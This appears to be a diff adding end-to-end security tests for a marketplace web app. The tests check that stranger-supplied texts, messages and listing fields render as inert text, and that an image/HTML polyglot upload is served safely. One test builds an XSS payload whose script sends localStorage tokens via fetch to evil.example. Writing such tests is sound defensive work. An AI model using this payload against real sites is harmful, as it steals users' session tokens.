@@ -1,0 +1,160 @@
+import { sql } from 'kysely'
+import { signIn } from '../../contract/accounts/rules.ts'
+import { imageWidths } from '../../contract/listings/images.ts'
+import { links } from '../../contract/urls.ts'
+import { letSendFreely } from '../../testkit/conversations.ts'
+import { aListing } from '../../testkit/listings.ts'
+import { aPerson } from '../../testkit/people.ts'
+import { aPicture, upload } from '../../testkit/pictures.ts'
+import { hostileTexts } from '../support/hostile-texts.ts'
+import { expect, type Site, test, type Window } from '../support/journey.ts'
+
+/** What a page did that no text of a stranger may make it do. */
+function watch({ page, context }: Window, site: Site) {
+  const seen: string[] = []
+  page.on('dialog', dialog => {
+    seen.push(`dialog ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  context.on('request', request => {
+    const { protocol, origin } = new URL(request.url())
+    if (!['data:', 'blob:'].includes(protocol) && origin !== site.url) seen.push(`request to ${request.url()}`)
+  })
+  return {
+    seen,
+    check: async () => {
+      if (await page.evaluate(() => 'hit' in window)) seen.push(`script ran on ${page.url()}`)
+    },
+  }
+}
+
+test('abuse case 29: texts of strangers stay texts on every screen', async ({ newWindow, site }) => {
+  test.setTimeout(180_000)
+  const { world } = site
+  // every page shows all of them somewhere; these also become its title, heading and address
+  const someTexts = hostileTexts.filter((_, place) => place % 4 === 2)
+  const seller = await aPerson(world, {
+    name: hostileTexts[4]!,
+    business: { name: hostileTexts[8]!, city: hostileTexts[30]! },
+  })
+  const buyer = await aPerson(world, { name: hostileTexts[12]!, business: { name: hostileTexts[32]! } })
+  const listings: { id: string; name: string }[] = []
+  for (const name of hostileTexts) {
+    const { id } = await aListing(world, seller, { name, description: hostileTexts.join('\n') })
+    listings.push({ id, name })
+  }
+  await world.db
+    .updateTable('listings')
+    .set({ specifications: sql`${JSON.stringify(hostileTexts.map(text => [text.slice(0, 60), text]))}::jsonb` })
+    .where('user_id', '=', seller.id)
+    .execute()
+  const { body } = await world.api(
+    'POST /conversation/create-conversation',
+    { body: { data: { createdFor: seller.id } } },
+    buyer,
+  )
+  await letSendFreely(world, [buyer])
+  for (const message of hostileTexts) {
+    const data = { conversationId: body.conversationId, recieverId: seller.id, message }
+    expect((await world.api('POST /message/create-message', { body: { data } }, buyer)).status).toBe(200)
+  }
+
+  const stranger = await newWindow()
+  const outside = watch(stranger, site)
+  const visit = async (path: string) => {
+    await stranger.page.goto(path)
+    await outside.check()
+  }
+  for (const text of someTexts) await visit(links.explore({ query: text.slice(0, 100) }))
+  await expect(stranger.page.getByRole('searchbox').first()).toHaveValue(someTexts.at(-1)!)
+  for (const { id, name } of listings.filter(listing => someTexts.includes(listing.name))) {
+    await visit(links.product(id))
+    await expect(stranger.page.getByRole('heading', { level: 1 })).toHaveText(name)
+  }
+  await visit('/')
+  expect(outside.seen).toEqual([])
+
+  for (const person of [seller, buyer]) {
+    const own = await newWindow({ token: person.token })
+    const inside = watch(own, site)
+    for (const path of [
+      links.dashboard(),
+      links.myListings(),
+      links.businessDetails(),
+      links.messages(body.conversationId),
+    ]) {
+      await own.page.goto(path)
+      await expect(own.page.getByRole('heading', { level: 1 })).toBeVisible()
+      await expect(own.page.locator('main')).not.toContainText('Loading')
+      await inside.check()
+    }
+    await expect(own.page.getByText(hostileTexts.at(-2)!, { exact: true }).first()).toBeAttached()
+    expect(inside.seen).toEqual([])
+  }
+})
+
+test('abuse case 25: a picture that is also a page and a script is a picture when it is opened', async ({
+  newWindow,
+  site,
+}) => {
+  const { world } = site
+  const seller = await aPerson(world)
+  const script =
+    '<html><body><script>window.hit=1;alert(localStorage.t);fetch("http://evil.example/"+localStorage.t)</script>'
+  const picture = await aPicture({ format: 'png' })
+  const polyglot = Buffer.concat([picture, Buffer.from(`${script}PK\u0003\u0004`)])
+  const listing = await aListing(world, seller, { pictures: 0 })
+  const answer = await upload(
+    world,
+    listing.id,
+    [
+      { content: polyglot, name: 'photo.jpg.html', type: 'text/html' },
+      { content: polyglot, name: 'photo.svg', type: 'image/svg+xml' },
+    ],
+    seller,
+  )
+  expect(answer.status).toBe(200)
+  expect(answer.body.images).toHaveLength(2)
+  for (const content of [Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`), Buffer.from(script)]) {
+    expect((await upload(world, listing.id, [{ content }], seller)).status).toBe(415)
+  }
+
+  // the browser's own frame around a picture, and this test's, are held back as any other page would be
+  const allow = /document is sandboxed|'allow-scripts' permission|Applying inline style/
+  const victim = await newWindow({ allow })
+  const { seen, check } = watch(victim, site)
+  await victim.page.goto('/')
+  await victim.page.evaluate(([key, token]) => localStorage.setItem(key!, token!), [signIn.tokenKey, seller.token])
+  for (const address of answer.body.images) {
+    for (const width of imageWidths) {
+      const reply = await victim.page.goto(address.replace(/-\d+\.webp/, `-${width}.webp`))
+      const headers = reply!.headers()
+      expect(reply!.status()).toBe(200)
+      expect(headers['content-type']).toBe('image/webp')
+      expect(headers['x-content-type-options']).toBe('nosniff')
+      expect(headers['content-security-policy']).toContain("default-src 'none'")
+      expect(headers['content-security-policy']).toContain('sandbox')
+      expect((await reply!.body()).includes('<script')).toBe(false)
+      await check()
+    }
+  }
+  expect(seen).toEqual([])
+})
+
+test('specifications that look like the packing of a page leave its scripts alone', async ({ newWindow, site }) => {
+  const seller = await aPerson(site.world)
+  const { id } = await aListing(site.world, seller, { status: 'Draft' })
+  const specifications = { '~': 'a', '=': 'b' }
+  const saved = await site.world.api(
+    'PUT /deadstock/:id',
+    { params: { id }, body: { data: { specifications } } },
+    seller,
+  )
+  expect(saved.status).toBe(200)
+  await site.world.db.updateTable('listings').set({ status: 'Active' }).where('id', '=', id).execute()
+  const { page } = await newWindow()
+  await page.goto(links.product(id))
+  await expect(page.getByRole('region', { name: 'Specifications' }).getByRole('definition')).toHaveText(['a', 'b'])
+  await page.getByRole('button', { name: 'Report' }).click()
+  await expect(page.getByRole('dialog')).toBeVisible()
+})
